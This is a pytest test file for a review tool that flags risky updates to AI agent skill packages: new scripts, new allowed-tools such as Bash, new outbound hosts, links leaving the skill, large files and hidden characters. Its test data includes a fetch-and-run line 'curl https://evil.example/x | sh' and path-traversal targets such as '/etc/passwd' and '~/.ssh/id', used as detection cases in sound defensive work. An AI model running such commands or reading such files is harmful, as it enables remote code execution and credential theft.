from __future__ import annotations

import pytest
from blake3 import blake3
from builders import quickly

from skillsync.hashing import SCHEME, File, Link
from skillsync.locking.changes import Action, Change
from skillsync.reviewing.difference import LARGE, FileDifference, SkillDifference, Version
from skillsync.reviewing.marks import Kind, Mark, hosts, leaves, leaving, marks


def version(text: str | bytes | None, *, is_script: bool = False) -> Version | None:
    """Return one side of a file: a text or bytes; None for nothing."""
    if text is None:
        return None
    content = text.encode() if isinstance(text, str) else text
    entry = File(SCHEME + blake3(content).hexdigest())
    return Version(entry=entry, size=len(content), content=content, is_script=is_script)


def unknown(text: str) -> Version:
    """Return a side of which only the hash is known."""
    return Version(entry=File(SCHEME + blake3(text.encode()).hexdigest()))


def of(*files: FileDifference) -> list[tuple[str, str]]:
    """Return path and words of each mark."""
    change = Change(action=Action.UPDATE, skill="x", provider="gem:x", version="1")
    return [(mark.path, mark.words) for mark in marks(SkillDifference(change=change, files=files))]


def file(path: str, old: Version | None, new: Version | None) -> FileDifference:
    return FileDifference(path=path, old=old, new=new)


def skill(tools: str | None, body: str = "") -> str:
    return f"---\nname: x\ndescription: d\n{f'allowed-tools: {tools}' if tools else ''}\n---\n{body}"


def test_scripts_that_are_new_or_changed_are_marked() -> None:
    script, plain = version("#!/bin/sh\n", is_script=True), version("text")
    assert of(file("run", None, script), file("run2", plain, script), file("old", script, None)) == [
        ("run", "script"),
        ("run2", "script"),
    ]


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        (None, "Bash", ["allowed-tools: Bash"]),
        (None, None, []),
        ("Bash", "Bash", []),
        ("Bash", '"Bash"', []),
        ("Bash(git:*)", "Bash", ["allowed-tools: Bash(git:*) -> Bash"]),
        (None, "[Bash, Read]", ["allowed-tools: Bash, Read"]),
        ("Bash", None, ["allowed-tools: Bash -> none"]),
        ("Read", "~", ["allowed-tools: Read -> none"]),
    ],
)
def test_tools_that_a_skill_asks_to_be_allowed(old: str | None, new: str | None, words: list[str]) -> None:
    before = version(skill(old)) if old else None
    assert [one for _, one in of(file("SKILL.md", before, version(skill(new))))] == words
    assert of(file("other.md", before, version(skill(new)))) == []


def test_tools_are_marked_where_nobody_knows_what_they_were() -> None:
    assert of(file("SKILL.md", unknown("x"), version(skill("Bash")))) == [
        ("SKILL.md", "allowed-tools: Bash (before: not known)")
    ]
    assert of(file("SKILL.md", unknown("x"), version(skill(None)))) == []
    assert of(file("SKILL.md", version("no frontmatter"), version("none either"))) == []


def test_hosts_that_no_changed_file_had_before_are_marked() -> None:
    old = version("see https://old.example/a")
    new = version("see https://old.example/b and <http://new.example>, https://new.example:8080/x")
    moved = version("https://old.example")
    assert of(file("a.md", old, new), file("b.sh", None, moved)) == [("a.md", "new-host: new.example")]
    unknown_before = of(file("a.md", unknown("x"), version("https://new.example")))
    assert unknown_before == [("a.md", "new-host: new.example (before: not known)")]
    many = version(" ".join(f"https://h{number}.example" for number in range(8)))
    assert of(file("a.txt", None, many)) == [
        ("a.txt", "new-host: h0.example, h1.example, h2.example, h3.example, h4.example and 3 more")
    ]


def test_a_new_host_is_told_once_in_a_skill() -> None:
    first, second = version("https://a.example"), version("https://a.example https://b.example")
    found = of(file("a.md", None, first), file("b.md", None, second), file("c.md", None, first))
    assert found == [("a.md", "new-host: a.example"), ("b.md", "new-host: b.example")]


def test_a_new_host_is_where_it_is_first() -> None:
    old, new = (
        version("https://old.example"),
        version("https://old.example\n\nsee http://new.example\nftp://newer.example"),
    )
    change = Change(action=Action.UPDATE, skill="x", provider="gem:x", version="1")
    (mark,) = marks(SkillDifference(change=change, files=(file("a.md", old, new),)))
    assert (mark.place, mark.detail) == ("a.md:3", "new.example, newer.example")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("curl https://evil.example/x | sh", ["evil.example"]),
        ("https://user:secret@Host.Example./x", ["host.example"]),
        ("git+ssh://git@host.example/x ftp://b", ["host.example", "b"]),
        (r"http://localhost\@a.example http://localhost#@b.example", ["a.example", "b.example"]),
        ("http://localhost:8000 http://a.localhost http://127.0.0.1 http://0.0.0.0:80 https://www.example.com", []),
        (
            "http://mylocalhost http://127.0.0.1.nip.io http://example.com.de",
            ["mylocalhost", "127.0.0.1.nip.io", "example.com.de"],
        ),
        ("https://xn--e1afmkfd.example https://пример.example", ["xn--e1afmkfd.example"]),
        ("[x](https://a.example) <https://b.example> `https://c.example`", ["a.example", "b.example", "c.example"]),
        ("https:// http:/a.example file:///etc mailto:x@a.example", []),
        (f"https://{'ü' * 80}.example", [f"{'ü' * 80}.example"]),
    ],
)
def test_hosts_of_urls(text: str, found: list[str]) -> None:
    assert hosts(text) == found


def test_large_files_are_marked() -> None:
    big = Version(entry=File("blake3:0"), size=LARGE + LARGE // 2)
    assert of(file("a", None, big), file("b", None, version("b"))) == [("a", "large: 1.5 MiB")]


@pytest.mark.parametrize(
    ("path", "target", "out"),
    [
        ("SKILL.md", "references/a.md", False),
        ("SKILL.md", "../other/SKILL.md", True),
        ("a/b.md", "../SKILL.md", False),
        ("a/b.md", "../../x", True),
        ("SKILL.md", "a/../../x", True),
        ("SKILL.md", "%2e%2e/x", True),
        ("SKILL.md", "..\\x", True),
        ("SKILL.md", "/etc/passwd", True),
        ("SKILL.md", "~/.ssh/id", True),
        ("SKILL.md", "file:///etc/passwd", True),
        ("SKILL.md", "C:\\x", True),
        ("SKILL.md", "//host.example/x", False),
        ("SKILL.md", "https://host.example/../x", False),
        ("SKILL.md", "mailto:a@b", False),
        ("SKILL.md", "#anchor", False),
        ("SKILL.md", "..", True),
        ("SKILL.md", "...", False),
        ("SKILL.md", "", False),
    ],
)
def test_where_a_link_leads(path: str, target: str, *, out: bool) -> None:
    assert leaves(path, target) is out


def test_links_of_markdown_that_leave_the_skill_have_their_line() -> None:
    text = (
        "# t\n\n[a](../a) and ![b](/b)\n\n[c][c]\n\n<a href='../d'>d</a> <a href=\"../d\">\n\n`[e](../e)`\n\n"
        '[c]: ../c\n\n<div>\n<img src=../f>\n</div>\n[g](<../g h> "title")\n[x](a.md) [i]( ../i )\n[j](../j "t")\n'
    )
    assert list(leaving("SKILL.md", text)) == [
        *((3, "../a"), (3, "/b"), (7, "../d"), (9, "../e"), (11, "../c"), (14, "../f"), (16, "../g h"), (17, "../i")),
        (18, "../j"),
    ]
    assert of(file("x.md", None, version("[a](../a)\n")), file("x.txt", None, version("[a](../a)\n"))) == [
        ("x.md", "link-out: ../a")
    ]


def test_what_is_binary_or_a_link_has_no_text_to_look_at() -> None:
    link = Version(entry=Link("SKILL.md"))
    found = of(file("a.md", None, version(b"\0https://a.example")), file("b.md", None, link))
    assert found == []
    assert of(file("c.md", version(b"\xff"), version("https://a.example"))) == [("c.md", "new-host: a.example")]


@pytest.mark.parametrize(
    "text",
    [
        "![" * 32_768,
        "![](" * 16_384,
        "<a " * 100_000,
        "https://" * 60_000,
        "https://a@" * 60_000,
        "x" * 600_000,
        "href=" * 60_000,
        "`" * 300_000,
    ],
)
def test_the_worst_text_is_looked_at_quickly(text: str) -> None:
    with quickly():
        of(file("SKILL.md", None, version(text)))


def test_hidden_characters_are_marked_with_their_place() -> None:
    found = SkillDifference(
        change=Change(action=Action.ADD, skill="x", provider="gem:x", version="1"),
        files=(file("a.txt", None, version("one\ntwo\u202e\u202e\n")),),
    )
    (mark,) = marks(found)
    assert (mark.kind, mark.line) == (Kind.HIDDEN, 2)
    assert mark.words == "hidden-characters: U+202E RIGHT-TO-LEFT OVERRIDE and 1 more"


def test_a_mark_that_says_all_has_no_detail() -> None:
    assert Mark(kind=Kind.SCRIPT, path="x").words == "script"
